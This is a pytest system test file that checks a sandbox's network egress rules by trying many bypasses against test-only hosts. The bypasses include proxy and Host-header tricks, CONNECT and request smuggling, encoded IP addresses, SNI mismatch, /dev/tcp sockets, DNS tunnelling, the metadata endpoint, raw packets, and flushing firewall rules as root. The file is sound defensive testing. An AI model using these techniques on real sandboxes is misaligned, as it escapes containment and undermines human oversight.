"""Tries to get past the rules in every way that anybody thought of: nothing may arrive where the rules do not lead.

The world records every packet that reaches it and every name that its resolver is asked.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from withruntime import Sandbox

from .egress.world import TestWorld

pytestmark = pytest.mark.system

ALLOWED = "198.51.100.10"
OTHER, OTHER6 = "198.51.100.20", "2001:db8:1::10"
TOOL = Path(__file__).with_name("egress") / "guest_tool.py"


@dataclass(frozen=True)
class Attempt:
    """A shell command in the guest. `root` runs it as root; `flushed` after the redirect rules and proxies are gone."""

    name: str
    command: str
    root: bool = False
    flushed: bool = False
    reaches_allowed: bool = False
    """A part of it is meant for the allowed host, and may arrive there."""


def curl(rest: str) -> str:
    return f"curl -sSk -m 8 {rest}"


def direct(rest: str) -> str:
    return curl(f"--noproxy '*' {rest}")


def t(*words: str) -> str:
    return "python3 /tmp/t.py " + " ".join(f"'{word}'" for word in words)


def proxied(*parts: str) -> str:
    return t("send", "127.0.0.1", "10800", *parts)


AT_OTHER = f"http://{OTHER}/"
GET_OTHER = r"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n"
GET_ALLOWED = r"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
TO_ALLOWED = r"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n"

ATTEMPTS = [
    Attempt("https by the proxy", curl("https://other.test/")),
    Attempt("http by the proxy", curl("http://other.test/")),
    Attempt("https by its name", direct("https://other.test/")),
    Attempt("http by its name", direct("http://other.test/")),
    Attempt("http by address", direct(f"http://{OTHER}/")),
    Attempt("https by address", direct(f"https://{OTHER}/")),
    Attempt("https by address and the proxy", curl(f"https://{OTHER}/")),
    Attempt("the allowed host by its address", direct(f"-H 'Host: allowed.test' http://{ALLOWED}/")),
    Attempt(
        "the allowed host's name at another address",
        direct(f"--resolve allowed.test:443:{OTHER} https://allowed.test/"),
    ),
    Attempt("http by IPv6", direct(f"-g 'http://[{OTHER6}]/'")),
    Attempt("http by IPv6 and the proxy", curl(f"-g 'http://[{OTHER6}]/'")),
    Attempt("https by a mapped address", curl(f"-g 'https://[::ffff:{OTHER}]/'")),
    Attempt("an IPv6 name", curl("http://six.test/")),
    Attempt("upper case", curl("http://OTHER.TEST/")),
    Attempt("a dot at the end", curl("http://other.test./")),
    Attempt("a user before the host", curl("http://allowed.test@other.test/")),
    Attempt("a subdomain of the allowed name", curl("http://sub.allowed.test/")),
    Attempt("the name as a subdomain's end", curl("http://xallowed.test/")),
    Attempt("python", "python3 -c \"import urllib.request as u; u.urlopen('https://other.test/', timeout=8)\""),
    Attempt("git", "timeout 10 git ls-remote https://other.test/x.git"),
    Attempt("ssh", "timeout 8 ssh -o StrictHostKeyChecking=no other.test true"),
    Attempt("ssh by address", f"timeout 8 ssh -o StrictHostKeyChecking=no {OTHER} true"),
    Attempt("a raw socket of a program", f"timeout 8 bash -c 'echo hello > /dev/tcp/{OTHER}/5432'"),
    Attempt("an odd port", f"timeout 8 bash -c 'echo hello > /dev/tcp/{OTHER}/54321'"),
    Attempt("CONNECT by name", proxied(r"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test\r\n\r\n")),
    Attempt("CONNECT with an allowed Host", proxied(r"CONNECT other.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")),
    Attempt("CONNECT by address", proxied(rf"CONNECT {OTHER}:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")),
    Attempt("CONNECT by a number", proxied(r"CONNECT 3325256724:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")),
    Attempt(
        "CONNECT by a hexadecimal number", proxied(r"CONNECT 0xc6336414:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    ),
    Attempt(
        "CONNECT by octal numbers", proxied(r"CONNECT 0306.063.0144.024:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    ),
    Attempt("CONNECT by IPv6", proxied(rf"CONNECT [{OTHER6}]:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")),
    Attempt(
        "CONNECT by a 6to4 address", proxied(r"CONNECT [2002:c633:6414::1]:80 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    ),
    Attempt(
        "CONNECT in CONNECT",
        t("after", "127.0.0.1", "10800", TO_ALLOWED, r"CONNECT other.test:443 HTTP/1.1\r\nHost: x\r\n\r\n"),
    ),
    Attempt(
        "a NUL in the host", proxied(r"GET http://allowed.test\x00.other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    ),
    Attempt(
        "two hosts in one", proxied(r"GET http://allowed.test:80@other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    ),
    Attempt("a target for another host", proxied(r"GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")),
    Attempt("a Host for another host", proxied(r"GET http://allowed.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n")),
    Attempt(
        "two Hosts", proxied(r"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\n\r\n")
    ),
    Attempt(
        "a method that nobody knows", t("send", "allowed.test", "80", r"FOO / HTTP/1.1\r\nHost: other.test\r\n\r\n")
    ),
    Attempt("an empty line first", t("send", "allowed.test", "80", r"\r\n" + GET_OTHER)),
    Attempt("Host of another host, without a proxy", direct("-H 'Host: other.test' http://allowed.test/")),
    Attempt(
        "a second request on an allowed connection",
        t("after", "allowed.test", "80", GET_ALLOWED, GET_OTHER),
        reaches_allowed=True,
    ),
    Attempt(
        "a request hidden by two lengths",
        t(
            "send",
            "allowed.test",
            "80",
            r"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            + GET_OTHER,
        ),
    ),
    Attempt("TLS for another name", t("sni", "allowed.test", "443", "other.test", GET_OTHER)),
    Attempt("TLS for another name through CONNECT", t("tunnel", "allowed.test:443", "other.test", GET_OTHER)),
    Attempt("TLS for an allowed name at another address", t("sni", OTHER, "443", "allowed.test", GET_ALLOWED)),
    Attempt("TLS without a name at another address", t("sni", OTHER, "443", "", GET_OTHER)),
    Attempt("HTTP/2 without TLS", t("send", "allowed.test", "80", r"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")),
    Attempt("a WebSocket", curl("-H 'Upgrade: websocket' -H 'Connection: Upgrade' http://other.test/")),
    Attempt("SOCKS to the proxy's port", curl(f"--socks5 127.0.0.1:10800 http://{OTHER}/")),
    Attempt("an address that stands for nothing", direct("http://198.18.77.77/")),
    Attempt("the relay itself", t("send", "127.0.0.1", "10802", GET_OTHER)),
    Attempt("metadata", direct("http://169.254.169.254/latest/meta-data/")),
    Attempt("UDP to a host", t("udp", OTHER, "9999")),
    Attempt("QUIC's port", t("udp", OTHER, "443")),
    Attempt("UDP by IPv6", t("udp", OTHER6, "9999")),
    Attempt("a big datagram", t("udp", OTHER, "9999", "y" * 4096)),
    Attempt("DNS to another resolver", t("query", "198.51.100.53", "other.test", "1")),
    Attempt("DNS over TCP to another resolver", t("query", "198.51.100.53", "other.test", "1", "tcp")),
    Attempt("a TXT question", t("query", "198.18.255.53", "other.test", "16")),
    Attempt("an HTTPS question", t("query", "198.18.255.53", "other.test", "65")),
    Attempt(
        "data in a refused name", t("query", "198.18.255.53", f"{'a1b2c3d4' * 7}.{'e5f6a7b8' * 7}.other.test", "1")
    ),
    Attempt("DNS at another port", t("udp", "198.51.100.53", "5353")),
    Attempt("a ping", t("raw", "2", "3", "1", OTHER, r"\x08\x00\xf7\xff\x00\x00\x00\x00"), root=True),
    Attempt("a ping by IPv6", t("raw", "10", "3", "58", OTHER6, r"\x80\x00\x00\x00\x00\x00\x00\x00"), root=True),
    Attempt("a TCP packet made by hand", t("raw", "2", "3", "6", OTHER, "x" * 20), root=True),
    Attempt("SCTP", t("raw", "2", "3", "132", OTHER, "x" * 20), root=True),
    Attempt("UDP-Lite", t("raw", "2", "2", "136", OTHER, "x" * 20, "9999"), root=True),
    Attempt("a frame on the interface", t("packet", "dummy0"), root=True),
    Attempt("a virtual socket to the host", t("vsock"), root=True),
    Attempt("the agent's own port", t("port"), root=True),
    Attempt(
        "another interface",
        f"ip link add d9 type dummy; ip link set d9 up;ip route add {OTHER} dev d9; {direct(AT_OTHER)}; ip link del d9",
        root=True,
    ),
    Attempt("http by address, rules flushed", direct(f"http://{OTHER}/"), root=True, flushed=True),
    Attempt("http by name, rules flushed", direct("http://other.test/"), root=True, flushed=True),
    Attempt("http by IPv6, rules flushed", direct(f"-g 'http://[{OTHER6}]/'"), root=True, flushed=True),
    Attempt("UDP, rules flushed", t("udp", OTHER, "9999"), root=True, flushed=True),
    Attempt(
        "DNS to another resolver, rules flushed",
        t("query", "198.51.100.53", "other.test", "1"),
        root=True,
        flushed=True,
    ),
    Attempt(
        "a TCP packet made by hand, rules flushed", t("raw", "2", "3", "6", OTHER, "x" * 20), root=True, flushed=True
    ),
    Attempt("the proxy, rules flushed", curl("-x http://127.0.0.1:10800 http://other.test/"), root=True, flushed=True),
]
THROUGH_AN_ALLOWED_PROXY = [
    Attempt(
        "CONNECT at an allowed proxy",
        t("after", "proxy.test", "3128", r"CONNECT other.test:443 HTTP/1.1\r\nHost: x\r\n\r\n", "x"),
    ),
    Attempt("an allowed proxy, by curl", curl("--noproxy '' -x http://proxy.test:3128 https://other.test/")),
    Attempt(
        "a URL for an allowed proxy",
        t("send", "proxy.test", "3128", r"GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n"),
    ),
]
FLUSH = "nft list ruleset > /tmp/rules; nft flush ruleset; unset ${!HTTP*} ${!http*};"


def attempted(sandbox: Sandbox, attempt: Attempt) -> str:
    command = attempt.command
    if attempt.flushed:
        command = f"{FLUSH} {command}; code=$?; nft -f /tmp/rules; exit $code"
    done = sandbox.exec(command, user="root" if attempt.root else "sandbox", timeout_ms=60_000)
    return f"{done.exit_code}: {done.stdout}{done.stderr}"


@pytest.fixture
def narrow(fresh: Sandbox) -> Sandbox:
    fresh.files.write("/tmp/t.py", TOOL.read_text())
    fresh.network.set(internet=True, allow=["allowed.test"])
    return fresh


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda a: a.name)
def test_nothing_arrives_that_the_rules_refuse(narrow: Sandbox, world: TestWorld, attempt: Attempt) -> None:
    world.forget()
    said = attempted(narrow, attempt)
    packets = world.packets()

    assert "hello from other" not in said and "hello from six" not in said, said
    assert [p for p in packets if p["to"] != ALLOWED] == [], said
    assert attempt.reaches_allowed or sum(p["bytes"] for p in packets) == 0, said
    assert set(world.questions()) <= {"allowed.test"}, said


@pytest.mark.parametrize("attempt", THROUGH_AN_ALLOWED_PROXY, ids=lambda a: a.name)
def test_an_allowed_host_that_is_a_proxy_leads_nowhere_else(
    narrow: Sandbox, world: TestWorld, attempt: Attempt
) -> None:
    narrow.network.set(internet=True, allow=["proxy.test"])
    world.forget()
    said = attempted(narrow, attempt)

    assert "hello from other" not in said, said
    assert sum(p["bytes"] for p in world.packets()) == 0, said
    assert set(world.questions()) <= {"proxy.test"}, said


def test_there_are_enough_attempts_and_the_way_in_works(narrow: Sandbox) -> None:
    """Without a way that works, every attempt above would prove nothing."""
    said = narrow.exec("curl -sS -m 20 http://allowed.test/; curl -sS -m 20 --noproxy '*' http://allowed.test/").stdout

    assert said.count("hello from allowed.test") == 2 and len(ATTEMPTS) >= 40
